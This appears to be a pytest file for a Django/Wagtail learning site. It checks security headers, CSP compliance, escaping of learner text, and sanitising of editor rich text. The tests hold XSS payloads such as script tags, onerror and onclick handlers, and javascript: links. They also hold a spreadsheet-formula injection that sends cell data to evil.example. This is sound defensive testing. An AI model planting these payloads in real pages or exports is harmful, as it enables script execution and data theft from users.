"""What the browser is told and given: security headers, a Content-Security-
Policy the real pages satisfy (nothing inline to allow), escaped learner text
and script-free rich text from editors."""

import json
from html.parser import HTMLParser

import pytest
from django.test import Client, RequestFactory
from django.urls import reverse
from wagtail.admin.rich_text import DraftailRichTextArea
from wagtail.test.utils.form_data import querydict_from_html

from courses.models import CoursePage
from learning import services
from lms.middleware import database_unavailable_response

SITE_POLICY = {
    "default-src": "'self'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data:",
    "object-src": "'none'",
    "base-uri": "'self'",
    "form-action": "'self'",
    "frame-ancestors": "'none'",
}
XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'


def policy(response):
    header = response.get("Content-Security-Policy", "")
    directives = {}
    for part in header.split(";"):
        name, _, value = part.strip().partition(" ")
        if name:
            directives[name] = value.strip()
    return directives


class InlineCodeFinder(HTMLParser):
    """Collects what a strict Content-Security-Policy would block."""

    DATA_SCRIPT_TYPES = {"application/json", "application/ld+json"}

    def __init__(self):
        super().__init__()
        self.problems = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name == "style":
                self.problems.append(f"<{tag} style={value!r}>")
            if name in ("href", "src", "action") and (
                value or ""
            ).strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {name}=javascript:>")
        if tag == "style":
            self.problems.append("<style> element")
        if tag == "script":
            kind = (attributes.get("type") or "").lower()
            if not attributes.get("src") and kind not in self.DATA_SCRIPT_TYPES:
                self.problems.append("inline <script>")
            src = attributes.get("src") or ""
            if src.startswith(("http:", "https:", "//")) and "testserver" not in src:
                self.problems.append(f"script from another host: {src}")


def inline_code(html):
    finder = InlineCodeFinder()
    finder.feed(html)
    return finder.problems


def client_for(user=None, **defaults):
    client = Client(**defaults)
    if user is not None:
        client.force_login(user)
    return client


def pages_of(world):
    """(who, URL) for the site's main pages."""
    w = world
    learner_pages = [
        "/",
        "/kursus/",
        w.course.url,
        w.plain_module.url,
        w.quiz_module.url,
        f"/belajar/kuis/{w.attempt.pk}/",
        f"/belajar/kuis/{w.submitted_attempt.pk}/hasil/",
        f"/belajar/modul/{w.quiz_module.pk}/kuis/offline/",
        "/belajar/",
        "/akun/profil/",
        "/akun/sandi/ubah/",
        "/webinar/",
        w.webinar.url,
        w.policy_index.url,
        w.article.url,
        "/search/?query=etika",
        f"/tag/{w.tag.slug}/",
        f"/sertifikat/{w.certificate.code}/",
        "/luring/",
        "/halaman-yang-tidak-ada/",
    ]
    anonymous_pages = [
        "/",
        "/akun/masuk/",
        "/akun/sandi/lupa/",
        w.course.url,
        f"/sertifikat/{w.certificate.code}/",
    ]
    return (
        [("learner", url) for url in learner_pages]
        + [("anonymous", url) for url in anonymous_pages]
        + [
            ("supervisor", "/tim/"),
            ("trainer", w.course.url),  # with Wagtail's user bar
            ("trainer", f"/belajar/webinar/{w.webinar.pk}/kehadiran/"),
        ]
    )


def test_main_pages_carry_the_policy_and_need_nothing_inline(world):
    problems = {}
    for who, url in pages_of(world):
        response = client_for(world.users.get(who)).get(url)
        assert response.status_code in (200, 404), (who, url, response.status_code)
        directives = policy(response)
        for name, value in SITE_POLICY.items():
            assert directives.get(name) == value, (url, name, directives)
        assert response["X-Frame-Options"] == "DENY", url
        assert response["Referrer-Policy"] == "same-origin", url
        assert response["X-Content-Type-Options"] == "nosniff", url
        found = inline_code(response.content.decode())
        if found:
            problems[f"{who} {url}"] = found
    assert not problems, json.dumps(problems, indent=1)


def test_the_lockout_and_error_pages_need_nothing_inline(client, world, settings):
    for _ in range(5):
        response = client.post(
            "/akun/masuk/", {"username": "siti", "password": "salah-sekali"}
        )
    assert response.status_code == 429
    assert not inline_code(response.content.decode())
    request = RequestFactory().get("/kursus/")
    unavailable = database_unavailable_response(request)
    assert unavailable.status_code == 503
    assert not inline_code(unavailable.content.decode())
    from django.template.loader import render_to_string

    assert not inline_code(render_to_string("500.html"))


def test_the_admin_has_its_own_policy(world):
    response = client_for(world.users["superuser"]).get("/admin/")
    directives = policy(response)
    assert directives["frame-ancestors"] == "'self'"
    assert directives["object-src"] == "'none'"
    assert directives["base-uri"] == "'self'"
    assert directives["form-action"] == "'self'"
    # Page previews open in a frame of the admin: same origin only.
    assert response["X-Frame-Options"] in ("DENY", "SAMEORIGIN")


# Text written by learners ------------------------------------------------------


@pytest.fixture
def hostile_learner(world):
    """Siti writes markup into every free-text field she has."""
    siti = world.users["learner"]
    client = client_for(siti)
    response = client.post(
        "/akun/profil/",
        {
            "title_prefix": "<b>Dr.</b>",
            "title_suffix": XSS[:80],
            "email": siti.email,
            "phone": "0812 3456 7890",
            "time_zone": "Asia/Makassar",
        },
    )
    assert response.status_code == 302
    services.give_feedback(
        siti,
        world.plain_module,
        {
            "rating_material": 3,
            "rating_delivery": 3,
            "rating_practical": 3,
            "rating_overall": 3,
        },
        XSS,
    )
    siti.refresh_from_db()
    assert "<script>" in siti.title_suffix  # stored as written...
    return siti


def assert_escaped(html, where, shown=True):
    assert "<script>alert" not in html, where
    assert "<img src=x onerror" not in html, where
    assert not inline_code(html) or where[1].startswith("/admin/"), where
    if shown:
        assert "&lt;script&gt;" in html, where


def test_learner_text_is_escaped_wherever_it_is_shown(world, hostile_learner):
    siti = hostile_learner
    staff_views = [
        ("superuser", "/admin/laporan/feedback/comments/"),
        ("superuser", f"/admin/laporan/learners/{siti.pk}/"),
        ("superuser", "/admin/laporan/learners/"),
        ("superuser", "/admin/users/"),
        ("superuser", f"/admin/users/edit/{siti.pk}/"),
        ("supervisor", "/tim/"),
        ("admin_instansi", "/admin/laporan/feedback/comments/"),
        ("trainer", f"/belajar/webinar/{world.webinar.pk}/kehadiran/"),
        ("learner", "/akun/profil/"),
        ("learner", world.plain_module.url),
    ]
    for who, url in staff_views:
        response = client_for(world.users[who]).get(url)
        assert response.status_code == 200, (who, url)
        assert_escaped(response.content.decode(), (who, url))
    # Pages that show the short name only: nothing raw there either.
    for url in ("/belajar/", "/", f"/sertifikat/{world.certificate.code}/"):
        html = client_for(siti).get(url).content.decode()
        assert_escaped(html, ("learner", url), shown=False)


def test_exports_defuse_learner_text_for_spreadsheets(world, hostile_learner):
    """A comment starting with '=' must not become a formula in Excel."""
    services.give_feedback(
        hostile_learner,
        world.plain_module,
        {
            "rating_material": 3,
            "rating_delivery": 3,
            "rating_practical": 3,
            "rating_overall": 3,
        },
        '=HYPERLINK("http://evil.example/"&A1,"klik")',
    )
    response = client_for(world.users["superuser"]).get(
        "/admin/laporan/feedback/comments/?export=csv"
    )
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert '"=HYPERLINK' not in body and "\n=HYPERLINK" not in body
    assert "HYPERLINK" in body


# Rich text from editors ----------------------------------------------------------


def test_rich_text_saved_in_the_admin_cannot_carry_scripts(world):
    """An editor's text with a script and an event handler, as the rich text
    editor receives it, is saved and published without them."""
    course = CoursePage.objects.get(pk=world.course.pk)
    admin = client_for(world.users["superuser"])
    edit_url = reverse("wagtailadmin_pages:edit", args=[course.pk])
    form = querydict_from_html(
        admin.get(edit_url).content.decode(), form_id="page-edit-form"
    )
    hostile = (
        "<p>Tujuan <script>alert('x')</script>"
        '<b onclick="alert(2)">pembelajaran</b></p>'
        '<p><img src="x" onerror="alert(1)"/><a href="javascript:alert(3)">klik</a>'
        "</p><ul><li>Satu</li></ul>"
    )
    widget = DraftailRichTextArea(features=["bold", "italic", "ol", "ul"])
    form["learning_objectives"] = widget.format_value(hostile)
    form["action-publish"] = "action-publish"
    response = admin.post(edit_url, form)
    assert response.status_code == 302, response.content.decode()[:2000]
    course.refresh_from_db()
    stored = course.learning_objectives
    assert "pembelajaran" in stored and "Satu" in stored
    for bad in ("<script", "onclick", "onerror", "javascript:", "<img"):
        assert bad not in stored, bad
    html = Client().get(course.url).content.decode()
    assert "<b>pembelajaran</b>" in html
    # What is left of the script is harmless text; nothing runs.
    assert "<script>alert" not in html and not inline_code(html)
